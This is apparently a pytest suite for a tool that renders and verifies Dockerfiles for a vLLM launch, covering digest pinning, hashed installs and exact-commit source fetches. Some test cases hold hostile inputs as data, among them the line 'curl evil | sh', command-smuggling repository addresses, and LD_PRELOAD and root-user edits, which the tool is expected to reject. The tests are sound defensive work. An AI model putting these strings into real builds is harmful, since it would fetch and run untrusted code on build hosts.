"""What the image is made of and what it starts, read by Docker's own parser of Dockerfiles."""

import re
from dataclasses import replace
from pathlib import Path

import dockerfile
import pytest
from e2b_dockerfile_utils import ShellLex
from hypothesis import given
from tests.targets.foreign import ask, program
from tests.targets.launches import h200_shape, hostile, k3, k3_two_nodes, launch, launches, plain, source_build

from dayzero.core.errors import InputError
from dayzero.core.launch import LaunchSpec, apply_deltas
from dayzero.core.pins import SourceBuild
from dayzero.core.verdict import Proven, Refuted
from dayzero.targets import compose, docker_run, kubernetes, quadlet
from dayzero.targets.dockerfile import FILE_NAME, TARGET, companions_of
from dayzero.targets.interface import Target
from dayzero.targets.proof import prove_commands

CONTAINERS: tuple[Target, ...] = (compose.TARGET, kubernetes.TARGET, docker_run.TARGET, quadlet.TARGET)
LOCK = "engine==1.0 --hash=sha256:" + "1" * 64
SPECS = {
    "wheels": plain(),
    "hostile": hostile(),
    "gpus": h200_shape(),
    "image": k3(),
    "source": source_build(),
    "source and lock": replace(source_build(), lock=LOCK),
    "source on an image": replace(source_build(), image=k3().image),
    "source for the processor": replace(source_build(), accelerators=0),
}


def every(name: str, text: str) -> list[dockerfile.Command]:
    return [command for command in dockerfile.parse_string(text) if command.cmd.upper() == name]


def run_lines(text: str) -> str:
    return "\n".join(" ".join(command.value) for command in every("RUN", text))


def started(text: str) -> tuple[tuple[str, ...], list[str]]:
    """Give what Docker's parser and shell lexer say that the image starts."""
    (entrypoint,), (command,) = every("ENTRYPOINT", text), every("CMD", text)
    assert (entrypoint.json, command.json) == (True, True)
    lexer = ShellLex("\\")  # which leaves to others what a $ that is not escaped would be replaced with
    assert not [line.original for line in every("ENV", text) if re.search(r"(?<!\\)(\\\\)*\$", line.value[1])]
    env = [f"{line.value[0]}={''.join(lexer.process_words(line.value[1]))}" for line in every("ENV", text)]
    return (*entrypoint.value, *command.value), env


def expected(spec: LaunchSpec) -> tuple[tuple[object, ...], list[str]]:
    command = apply_deltas(spec, TARGET.deltas(spec)).leader
    return command.argv, [f"{name}={value}" for name, value in command.env]


@pytest.mark.parametrize("case", SPECS)
def test_dockers_parser_reads_the_launch_word_for_word(case: str) -> None:
    assert started(TARGET.render(SPECS[case])) == expected(SPECS[case])


@given(spec=launches())
def test_dockers_parser_reads_any_launch_word_for_word(spec: LaunchSpec) -> None:
    assert started(TARGET.render(spec)) == expected(spec)


@pytest.mark.parametrize("case", SPECS)
def test_hadolint_accepts_it(tmp_path: Path, case: str) -> None:
    file = tmp_path / FILE_NAME
    file.write_bytes(TARGET.render(SPECS[case]).encode())
    done = ask(program("hadolint"), "--no-color", str(file))
    assert (done.returncode, done.stdout) == (0, "")


@pytest.mark.parametrize("target", CONTAINERS, ids=lambda target: target.name)
def test_the_file_beside_a_container_target_is_the_target_itself(target: Target) -> None:
    assert dict(target.companions(plain()))[FILE_NAME] == TARGET.render(plain())


def test_nodes_that_share_a_launch_share_an_image_of_one_node() -> None:
    spec = replace(k3_two_nodes(), image="")
    ((_, text),) = companions_of(spec)
    assert "--node-rank" not in text
    with pytest.raises(InputError, match="starts one node"):
        TARGET.render(spec)


def test_a_pinned_image_is_the_base_by_its_digest_and_nothing_is_installed() -> None:
    text = TARGET.render(k3())
    assert every("FROM", text)[0].value == (k3().image,)
    assert every("RUN", text) == []
    assert "named by its tag" not in text


def test_a_base_without_a_digest_is_said_to_be_unpinned() -> None:
    text = TARGET.render(launch())
    assert "# The base is named by its tag: no digest was resolved" in text
    assert "\nFROM python:3.11-slim-bookworm\n" in text


def test_wheels_are_installed_by_hash_and_nothing_else_is() -> None:
    (install,) = [line for line in run_lines(TARGET.render(plain())).splitlines() if "pip install" in line]
    assert {"--require-hashes", "--no-deps"} <= set(install.split())


def test_a_source_build_fetches_exactly_the_pinned_commit_and_compares_it() -> None:
    source = source_build().source
    assert source is not None
    lines = run_lines(TARGET.render(source_build()))
    assert f"git fetch --quiet --depth 1 {source.repository} {source.commit} " in lines
    assert f'test "$(git rev-parse HEAD)" = {source.commit} ' in lines
    assert "clone" not in lines


def test_the_fetch_of_a_source_build_gets_that_commit_and_no_other(tmp_path: Path) -> None:
    git = program("git")
    identity = ("-c", "user.name=a", "-c", "user.email=a@b", "-c", "commit.gpgsign=false")
    origin, here = tmp_path / "origin", tmp_path / "here"
    origin.mkdir()
    here.mkdir()
    ask(git, "-C", str(origin), "init", "--quiet")
    ask(git, "-C", str(origin), "config", "uploadpack.allowAnySHA1InWant", "true")
    for message in ("first", "second"):
        ask(git, "-C", str(origin), *identity, "commit", "--quiet", "--allow-empty", "--message", message)
    first, second = ask(git, "-C", str(origin), "rev-list", "--reverse", "HEAD").stdout.split()
    source = source_build().source
    assert source is not None
    text = run_lines(TARGET.render(source_build())).replace(source.repository, f"file://{origin}")
    fetch = next(line for line in text.splitlines() if "git fetch" in line).split(" && SETUPTOOLS")[0]
    script = f"cd {here} && {fetch.replace(source.commit.hex, first)}"
    assert ask("sh", "-c", script).stderr == ""
    assert ask(git, "-C", str(here), "rev-list", "--all", "HEAD").stdout.split() == [first]
    other = script.replace(f"= {first}", f"= {second}")
    assert other != script
    assert ask("sh", "-c", other).returncode == 1


@pytest.mark.parametrize(
    ("case", "how"),
    [("source", " . "), ("source and lock", " --no-deps --no-build-isolation . ")],
)
def test_a_source_build_takes_what_it_requires_from_the_lock_where_there_is_one(case: str, how: str) -> None:
    text = TARGET.render(SPECS[case])
    assert f"--disable-pip-version-check{how}" in run_lines(text)
    assert ("No lock was given" in text) == (case == "source")
    assert ("--require-hashes" in text) == (case == "source and lock")


@pytest.mark.parametrize(
    "address",
    [
        "git@github.com:a/b",
        "http://a/b",
        "https://user:word@a/b",
        "https://a/b;id",
        "https://a/b --upload-pack=id",
        "--upload-pack=id",
        "https://a/$(id)",
        "https://a",
    ],
)
def test_a_source_at_any_other_kind_of_address_is_refused(address: str) -> None:
    source = source_build().source
    assert source is not None
    spec = replace(source_build(), source=SourceBuild(repository=address, commit=source.commit))
    with pytest.raises(InputError, match="not an address that git fetches a commit from"):
        TARGET.render(spec)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("# kimi", "# escape=`\n# kimi"),
        ("# kimi", "#syntax=evil/frontend\n# kimi"),
        ("# kimi", "\n# kimi"),
        ("# kimi", "ARG A=B\n# kimi"),
        ("nvidia/cuda:13.0.2-devel-ubuntu24.04", "nvidia/cuda:latest"),
        ("FROM ", "FROM scratch\nFROM "),
        ("RUN useradd", "ENV LD_PRELOAD=/x\nRUN useradd"),
        ("89abcdef01\n", "89abcdef02\n"),
        ('test "$(git rev-parse HEAD)" =', "test x ="),
        ("github.com/vllm-project/vllm 89", "github.com/vllm-project/vllm main # 89"),
        ("git init", "curl evil | sh && git init"),
        ("COPY requirements.lock *.py ./", "COPY . ./"),
        ("USER 10001:10001", "USER 0:0"),
        ("STOPSIGNAL SIGTERM", "STOPSIGNAL SIGKILL"),
        ("STOPSIGNAL SIGTERM", 'STOPSIGNAL SIGTERM\nSHELL ["x"]'),
        ('ENTRYPOINT ["vllm"]', "ENTRYPOINT vllm"),
        ('ENTRYPOINT ["vllm"]', 'ENTRYPOINT ["sh", "-c", "vllm"]'),
        ('CMD ["serve"', 'CMD ["serve", 1'),
        ('CMD ["serve"', "CMD ['serve'"),
        ('HF_HOME="/srv/dayzero/hub"', "HF_HOME=/srv/dayzero/hub"),
        ('HF_HOME="/srv/dayzero/hub"', 'HF_HOME="$HOME/hub"'),
        ('HF_HOME="/srv/dayzero/hub"', 'HF_HOME="/srv/dayzero/hub" A="B"'),
        ('HF_HOME="/srv/dayzero/hub"', 'HF_HOME="/srv/dayzero/hub" \\'),
        ('HF_HOME="/srv/dayzero/hub"', 'HF_HOME="/srv/dayzero/hub"\nENV A="B"'),
    ],
)
def test_a_file_that_does_anything_else_is_not_proven(old: str, new: str) -> None:
    text = TARGET.render(source_build())
    assert isinstance(prove_commands(source_build(), TARGET, text), Proven)
    edited = text.replace(old, new)
    if old == "89abcdef01\n":
        edited = text.replace("89abcdef01 \\\n    && git checkout", "89abcdef02 \\\n    && git checkout")
    assert edited != text
    assert isinstance(prove_commands(source_build(), TARGET, edited), Refuted)


def test_the_dockerfile_of_the_plain_launch_is_the_one_on_record() -> None:
    assert TARGET.render(plain()) == (Path(__file__).parent / "rendered" / FILE_NAME).read_text()
